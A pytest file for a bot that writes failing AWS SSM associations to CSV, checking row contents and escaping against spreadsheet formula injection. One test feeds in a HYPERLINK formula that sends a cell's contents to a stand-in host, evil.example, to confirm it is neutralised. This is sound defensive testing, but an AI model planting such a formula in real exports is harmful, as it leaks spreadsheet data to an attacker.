"""The failing associations as CSV: one row per failing association, matching the store, and no
cell that a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

from bot.app.digests import build_digest
from bot.core.digest import top_error
from bot.render.spreadsheet import FAILING_COLUMNS, digest_csv, failing_csv, safe_cell
from bot.settings.config import Settings
from bot.store import Store
from bot.sweeping.sweep import run_sweep
from bot.util.clock import iso, utcnow
from tests.support.sim import Sim


def _rows(text: str) -> list[dict[str, str]]:
    reader = csv.DictReader(io.StringIO(text))
    assert tuple(reader.fieldnames or ()) == FAILING_COLUMNS
    return list(reader)


def test_rows_match_the_stored_failing_associations(
    sim: Sim, settings: Settings, store: Store
) -> None:
    run_sweep(settings=settings, access=sim.access(), store=store)
    now = utcnow()
    acked = store.associations.tracked(failing_only=True)[0]
    store.acks.acknowledge(
        acked.key,
        by="U0OPS00001",
        reason="patch window Saturday",
        until=now + timedelta(days=2),
        now=now,
    )

    rows = _rows(digest_csv(build_digest(store, now)))

    failing = {
        t.key.association_id: t for t in store.associations.tracked(failing_only=True, now=now)
    }
    assert len(failing) == len(store.sweeps.scope_states()) * 3 > 1
    assert [r["association_id"] for r in rows].count(acked.key.association_id) == 1
    assert {r["association_id"] for r in rows} == set(failing)
    assert rows[-1]["association_id"] == acked.key.association_id  # acknowledged ones last
    for row in rows:
        tracked = failing[row["association_id"]]
        a = tracked.association
        assert row["account_id"] == a.account_id
        assert row["region"] == a.region
        assert row["association_name"] == (a.association_name or "")
        assert row["document_name"] == a.document_name
        assert int(row["failed_instances"]) == a.failed_target_count > 0
        assert int(row["total_instances"]) == a.total_targets >= a.failed_target_count
        assert row["failing_since"] == iso(tracked.failing_since)
        assert row["top_error"] == (top_error(a.failed_targets) or "")
        assert row["top_error"]
        if tracked.ack is None:
            assert row["acknowledged_by"] == row["acknowledged_until"] == ""
        else:
            assert row["acknowledged_by"] == "U0OPS00001"
            assert row["acknowledged_until"] == iso(now + timedelta(days=2))
            assert row["acknowledged_reason"] == "patch window Saturday"


def test_no_cell_becomes_a_spreadsheet_formula(sim: Sim, settings: Settings, store: Store) -> None:
    scope = sim.fleet.scope("111111111111", "eu-west-1")
    failing = next(a for a in scope.associations.values() if a.status == "Failed")
    failing.name = "-2-1"  # AWS allows names that start with a minus: a formula to a spreadsheet
    run_sweep(settings=settings, access=sim.access(), store=store)
    now = utcnow()
    key = next(
        t.key
        for t in store.associations.tracked()
        if t.key.association_id == failing.association_id
    )
    reason = '=HYPERLINK("http://evil.example/?"&A1,"details")'
    store.acks.acknowledge(key, by="U0OPS00001", reason=reason, until=None, now=now)

    rows = _rows(failing_csv(store.associations.tracked(failing_only=True, now=now)))

    (row,) = [r for r in rows if r["association_id"] == failing.association_id]
    assert row["association_name"] == "'-2-1"
    assert row["acknowledged_reason"] == "'" + reason
    assert row["acknowledged_until"] == ""
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())


def test_only_failing_associations_are_written(sim: Sim, settings: Settings, store: Store) -> None:
    run_sweep(settings=settings, access=sim.access(), store=store)
    everything = store.associations.tracked()
    assert any(not t.association.failing for t in everything)

    rows = _rows(failing_csv(everything))

    assert len(rows) == sum(1 for t in everything if t.association.failing)


def test_safe_cell_leaves_ordinary_text_alone() -> None:
    assert safe_cell("patch-scan-prod") == "patch-scan-prod"
    assert safe_cell(None) == ""
    assert safe_cell("-1 exit") == "'-1 exit"
    assert safe_cell("@SUM(A1)") == "'@SUM(A1)"
